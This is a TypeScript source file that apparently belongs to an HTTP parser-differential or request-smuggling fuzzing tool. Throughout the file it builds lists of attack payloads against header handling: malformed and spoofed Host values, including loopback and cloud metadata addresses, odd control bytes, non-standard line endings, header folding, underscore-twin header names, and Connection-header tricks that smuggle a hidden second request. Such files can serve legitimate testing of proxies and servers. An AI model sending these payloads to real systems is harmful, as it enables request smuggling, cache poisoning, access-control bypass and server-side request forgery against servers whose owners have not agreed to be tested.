import { type AttackClass, end, get, HOST, hidden, OTHER_HOST, post } from '../payload.ts'

// Header fields: whose host it is, ends of lines, bytes that do not belong, names that other
// readers take for others.

/** Values of `Host` that some reader takes for one of ours. */
const HOSTS = [
  HOST.toUpperCase(),
  `${HOST}:80`,
  `${HOST}:443`,
  `${HOST}:0`,
  `${HOST}:`,
  `${HOST}:65536`,
  `${HOST}:port`,
  `${HOST}:80:80`,
  `${HOST}:-1`,
  `${HOST}: 80`,
  `${HOST} :80`,
  `${HOST}.`,
  `${HOST}..`,
  `.${HOST}`,
  `${HOST}/`,
  `${HOST}/a`,
  `${HOST}?`,
  `${HOST}#`,
  `${HOST}\\`,
  `u@${HOST}`,
  `${HOST}@${OTHER_HOST}`,
  `${OTHER_HOST}@${HOST}`,
  `${OTHER_HOST}:80@${HOST}`,
  `${OTHER_HOST}\\@${HOST}`,
  `${OTHER_HOST}#@${HOST}`,
  `http://${HOST}`,
  `//${HOST}`,
  `${HOST}, ${OTHER_HOST}`,
  `${HOST},${OTHER_HOST}`,
  `${HOST} ${OTHER_HOST}`,
  `${HOST}\t${OTHER_HOST}`,
  `${HOST};${OTHER_HOST}`,
  `${HOST}\0`,
  `${HOST}\0.${OTHER_HOST}`,
  `\0${HOST}`,
  `${HOST}\x0b`,
  `\x0b${HOST}`,
  `${HOST}\xa0`,
  `${HOST}\xff`,
  `${HOST}\x7f`,
  `${HOST}%00`,
  `${HOST}%2e`,
  `email%2ecustomer.test`,
  `email.customer\xe3\x80\x82test`,
  `\xef\xbd\x85mail.customer.test`,
  `email_.customer.test`,
  `*.customer.test`,
  `-${HOST}`,
  `"${HOST}"`,
  `'${HOST}'`,
  `(${HOST})`,
  `[${HOST}]`,
  `{${HOST}}`,
  `$host`,
  '',
  ' ',
  '-',
  '.',
  ':',
  ':80',
  'localhost',
  '127.0.0.1',
  '127.0.0.1:80',
  '2130706433',
  '0x7f.1',
  '[::1]',
  '[::1]:80',
  '[::ffff:127.0.0.1]',
  '::1',
  '169.254.169.254',
  'stranger.test',
  `a.${HOST}`,
  `${HOST}.evil.test`,
  `${'a.'.repeat(120)}test`,
  `${'a'.repeat(64)}.test`,
]

const HOST_FIELDS = [
  'host:',
  'HOST:',
  'Host :',
  'Host\t:',
  ' Host:',
  '\tHost:',
  'Host\0:',
  'Ho\0st:',
  'Host\x0b:',
  'Host_:',
  'H\xf6st:',
  'Host::',
  'Host;:',
  'Host=',
  'X: a\nHost:',
  'X: a\rHost:',
  'X: a\r\n Host:',
  ':Host:',
  'Host\r:',
  'Host\n:',
  'Host\r\n :',
  'X-Host:',
  'X-Forwarded-Host:',
  'Forwarded: host=',
  'X-Original-Host:',
  'X-HTTP-Host-Override:',
  'X-Original-URL: /hidden\r\nX-Rewrite-URL:',
  ':authority:',
]

/** Bytes that one reader lets pass and another one ends something at. */
const ODD_BYTES = [
  0x00, 0x01, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x1b, 0x1c, 0x1f, 0x20, 0x22, 0x23,
  0x24, 0x25, 0x28, 0x29, 0x2c, 0x2f, 0x3a, 0x3b, 0x3c, 0x3d, 0x3e, 0x3f, 0x40, 0x5b, 0x5c, 0x5d,
  0x5e, 0x5f, 0x60, 0x7b, 0x7c, 0x7d, 0x7e, 0x7f, 0x80, 0x85, 0xa0, 0xad, 0xc0, 0xc3, 0xe2, 0xef,
  0xfe, 0xff,
].map((code) => String.fromCharCode(code))

const LINE_ENDS = [
  '\n',
  '\r',
  '\r\r\n',
  '\n\r',
  '\r\n\r',
  '\0\r\n',
  '\x0b',
  '\x0c',
  '\x85',
  '\x1e',
  ' \r\n',
  '\t\r\n',
  '\r \n',
  '\r\0\n',
  '\r\n\0',
  '\\r\\n',
]

/** Names that many a program reads as others, and what they would bring about. */
const TWINS = [
  'Content_Length: 3',
  'Transfer_Encoding: chunked',
  'X_Forwarded_For: 6.6.6.6',
  'X_Real_IP: 6.6.6.6',
  'HTTP_HOST: email.other.test',
  'Host_: email.other.test',
  '_Host: email.other.test',
  'Content-_Length: 3',
  'Content-Length_: 3',
  'Connection_: close',
  'Upgrade_: websocket',
  'X-Forwarded_For: 6.6.6.6',
  'x_forwarded-host: email.other.test',
  '__proto__: a',
]

/** Fields of one connection only, and those that only we may write. */
const NAMED = [
  'Content-Length',
  'content-length',
  'Host',
  'host',
  'Transfer-Encoding',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
  'Forwarded',
  'X-Request-Id',
  'X-Real-IP',
  'Cookie',
  'Authorization',
  'Connection',
  'Keep-Alive',
  'Upgrade',
  'TE',
  'close, X-Forwarded-For',
  'Content-Length, Host, X-Forwarded-For, Transfer-Encoding',
  '',
  ',',
  ', ,',
  'X-Y',
  '*',
  '"Content-Length"',
  'Content-Length;a',
  'keep-alive\r\nConnection: Content-Length',
]

const hosts: AttackClass = {
  class: 'host',
  payloads: [
    ...HOSTS.map((host) => (at: string) => get(`${at}/a`, host) + end(at)),
    ...HOSTS.slice(0, 40).map(
      (host) => (at: string) => get(`${at}/a`, HOST, `Host: ${host}\r\n`) + end(at),
    ),
    ...HOST_FIELDS.map(
      (field) => (at: string) => get(`${at}/a`, HOST, `${field} ${OTHER_HOST}\r\n`) + end(at),
    ),
    ...HOST_FIELDS.map(
      (field) => (at: string) =>
        `GET ${at}/a HTTP/1.1\r\n${field} ${OTHER_HOST}\r\nHost: ${HOST}\r\n\r\n${end(at)}`,
    ),
    ...HOST_FIELDS.map(
      (field) => (at: string) => `GET ${at}/a HTTP/1.1\r\n${field} ${HOST}\r\n\r\n${end(at)}`,
    ),
    (at) => `GET ${at}/a HTTP/1.1\r\n\r\n${end(at)}`,
    (at) => `GET ${at}/a HTTP/1.1\r\n Host: ${HOST}\r\n\r\n${end(at)}`,
    (at) => `GET ${at}/a HTTP/1.1\r\nHost:${HOST}\r\n\r\n${end(at)}`,
    (at) => `GET ${at}/a HTTP/1.1\r\nHost:\t${HOST}\t\r\n\r\n${end(at)}`,
    (at) => `GET ${at}/a HTTP/1.1\r\nHost:    ${HOST}   \r\n\r\n${end(at)}`,
    (at) => `GET ${at}/a HTTP/1.1\r\nHost:\r\n ${HOST}\r\n\r\n${end(at)}`,
    (at) =>
      `GET ${at}/a HTTP/1.1\r\nX: a\r\n${'Y: b\r\n'.repeat(60)}Host: ${HOST}\r\n\r\n${end(at)}`,
    (at) =>
      `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\n${'Y: b\r\n'.repeat(98)}Host: ${OTHER_HOST}\r\n\r\n${end(at)}`,
    (at) =>
      `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\n${'Y: b\r\n'.repeat(2000)}Host: ${OTHER_HOST}\r\n\r\n${end(at)}`,
  ],
}

const oddBytes: AttackClass = {
  class: 'odd-byte',
  payloads: ODD_BYTES.flatMap((byte) => [
    (at: string) => get(`${at}/a`, HOST, `X-${byte}Y: a\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `X-Y${byte}: a\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `${byte}X-Y: a\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `X-Y:${byte}a\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `X-Y: a${byte}b\r\n`) + end(at),
    (at: string) => get(`${at}/a`, HOST, `X-Y: a${byte}\r\n`) + end(at),
    (at: string) => get(`${at}/a${byte}b`) + end(at),
  ]),
}

const lineEnds: AttackClass = {
  class: 'line-end',
  payloads: LINE_ENDS.flatMap((lineEnd) => [
    (at: string) => `GET ${at}/a HTTP/1.1${lineEnd}Host: ${HOST}\r\n\r\n${end(at)}`,
    (at: string) => `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}${lineEnd}\r\n${end(at)}`,
    (at: string) => `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\n${lineEnd}${end(at)}`,
    (at: string) => `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}${lineEnd}${lineEnd}${end(at)}`,
    (at: string) => `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\nX: a${lineEnd}Y: b\r\n\r\n${end(at)}`,
    (at: string) =>
      `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\nX: a${lineEnd}${lineEnd}${hidden(at)}${end(at)}`,
    (at: string) =>
      `POST ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\nX: a${lineEnd}Content-Length: ${hidden(at).length}\r\n\r\n${hidden(at)}${end(at)}`,
  ]),
}

const folds: AttackClass = {
  class: 'fold-and-colon',
  payloads: [
    'X: a\r\n b',
    'X: a\r\n\tb',
    'X: a\r\n ',
    'X: a\r\n \r\n b',
    'X:\r\n a',
    'X:\r\n\r\n a',
    ' X: a',
    '\tX: a',
    'X : a',
    'X\t: a',
    'X',
    'X Y: a',
    ': a',
    ':',
    '::',
    '=',
    'X; a',
    '"X": a',
    'X:: a',
    'X:',
    'X:a',
    'X: \t a \t ',
    'X\r\n: a',
    'X:a:b',
    '{}: a',
    'GET / HTTP/1.1',
    'HTTP/1.1 200 OK',
    '\0: a',
    `${'X'.repeat(5000)}: a`,
    `X: ${'a'.repeat(8000)}`,
    `X: ${'a'.repeat(17_000)}`,
    'X: a\r\n'.repeat(98).trimEnd(),
    'X: a\r\n'.repeat(101).trimEnd(),
  ].flatMap((line) => [
    (at: string) => get(`${at}/a`, HOST, `${line}\r\n`) + end(at),
    (at: string) => `GET ${at}/a HTTP/1.1\r\n${line}\r\nHost: ${HOST}\r\n\r\n${end(at)}`,
  ]),
}

const twins: AttackClass = {
  class: 'underscore-twin',
  payloads: TWINS.flatMap((line) => [
    (at: string) => get(`${at}/a`, HOST, `${line}\r\n`) + end(at),
    (at: string) => post(at, `${line}\r\nContent-Length: 3\r\n`, 'abc'),
  ]),
}

const named: AttackClass = {
  class: 'connection-names',
  payloads: NAMED.flatMap((name) => [
    (at: string) => get(`${at}/a`, HOST, `Connection: ${name}\r\nX-Y: z\r\n`) + end(at),
    (at: string) =>
      post(at, `Connection: ${name}\r\nContent-Length: ${hidden(at).length}\r\n`, hidden(at)),
    (at: string) =>
      post(at, `Connection: ${name}\r\nTransfer-Encoding: chunked\r\n`, `3\r\nabc\r\n0\r\n\r\n`),
  ]),
}

/** Attacks on header fields. */
export const FIELDS: readonly AttackClass[] = [hosts, oddBytes, lineEnds, folds, twins, named]
